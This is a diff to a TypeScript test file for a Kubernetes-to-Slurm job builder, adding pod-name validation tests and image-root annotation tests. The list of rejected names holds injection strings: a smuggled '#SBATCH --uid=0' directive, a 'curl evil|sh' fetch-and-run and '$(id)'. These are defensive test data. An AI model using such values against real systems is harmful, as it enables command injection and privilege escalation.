@@ -2,6 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { PodSpecError } from '../../src/pod/annotations';
 import { buildJob, resolveImage } from '../../src/pod/job-plan-builder';
 import { insideDir, planVolumes } from '../../src/pod/volume-plan';
+import { renderSbatchScript } from '../../src/script/sbatch-script';
 import { makeCreate, makePod, testSettings } from '../fixtures';
 
 const settings = testSettings({ ContainerRuntime: 'none' });
@@ -17,6 +18,31 @@ describe('JobPlan builder validation', () => {
     expect(() => job({ uid: '../../x', containers: [sh] })).toThrow(/metadata.uid/);
     expect(() => job({ containers: [{ ...sh, name: 'A/b' }] })).toThrow(/container name "A\/b"/);
     expect(() => job({ containers: [sh, sh] })).toThrow(/used twice/);
+  });
+
+  it('pod names must be DNS-1123 subdomains, as Kubernetes requires', () => {
+    const label = 'a'.repeat(63);
+    for (const good of ['a', 'web-0', 'job.v1.example', [label, label, label, 'a'.repeat(61)].join('.')])
+      expect(job({ name: good, containers: [sh] }).plan.podName).toBe(good);
+    for (const bad of [
+      'x\n#SBATCH --uid=0',
+      'x\rcurl evil|sh',
+      'Web',
+      'under_score',
+      '-lead',
+      'trail-',
+      'a..b',
+      '.a',
+      'a b',
+      '$(id)',
+      'é',
+      [label, label, label, 'a'.repeat(62)].join('.'),
+    ]) {
+      expect(() => job({ name: bad, containers: [sh] }), JSON.stringify(bad)).toThrow(PodSpecError);
+      expect(() => job({ name: bad, containers: [sh] })).toThrow(
+        `metadata.name ${JSON.stringify(bad)} is not a valid DNS-1123 subdomain`,
+      );
+    }
   });
 
   it('rejects values no process could receive', () => {
@@ -103,6 +129,43 @@ describe('JobPlan builder validation', () => {
     expect(resolveImage('/images/a.sif', 'apptainer', s, undefined)).toBe('/images/a.sif');
     expect(resolveImage('docker://x', 'apptainer', s, undefined)).toBe('docker://x');
     expect(resolveImage('busybox', 'docker', s, undefined)).toBe('busybox');
+  });
+
+  it('slurm-job.vk.io/image-root is honoured through the job plan and the script', () => {
+    const s = testSettings({
+      ImagePrefix: 'docker://',
+      SingularityPrefix: 'oras://site/',
+      EnrootPrefix: 'docker://',
+    });
+    const pod = (runtime: string, annotations: Record<string, string> = {}) =>
+      makePod({
+        annotations: { 'slurm-job.vk.io/container-runtime': runtime, ...annotations },
+        initContainers: [{ name: 'stage', image: 'alpine:3', command: ['true'] }],
+        containers: [
+          { name: 'main', image: 'busybox:1.36', command: ['true'] },
+          { name: 'local', image: '/images/a.sif', command: ['true'] },
+          { name: 'schemed', image: 'docker://x:1', command: ['true'] },
+        ],
+      });
+    const images = (b: ReturnType<typeof buildJob>) =>
+      [...b.plan.initContainers, ...b.plan.containers].map((c) => c.image);
+    const root = { 'slurm-job.vk.io/image-root': 'library://lab/' };
+    for (const runtime of ['apptainer', 'singularity', 'enroot']) {
+      const built = buildJob(makeCreate(pod(runtime, root)), s, 0);
+      expect(images(built), runtime).toEqual([
+        'library://lab/alpine:3',
+        'library://lab/busybox:1.36',
+        '/images/a.sif',
+        'docker://x:1',
+      ]);
+      expect(renderSbatchScript(built.plan)).toContain(' library://lab/busybox:1.36');
+      // without the annotation the runtime's own prefix applies
+      expect(images(buildJob(makeCreate(pod(runtime)), s, 0))[1]).toBe(
+        runtime === 'enroot' ? 'docker://busybox:1.36' : 'oras://site/busybox:1.36',
+      );
+    }
+    // OCI CLIs take plain references: the annotation does not apply
+    expect(images(buildJob(makeCreate(pod('docker', root)), s, 0))[1]).toBe('busybox:1.36');
   });
 });
 
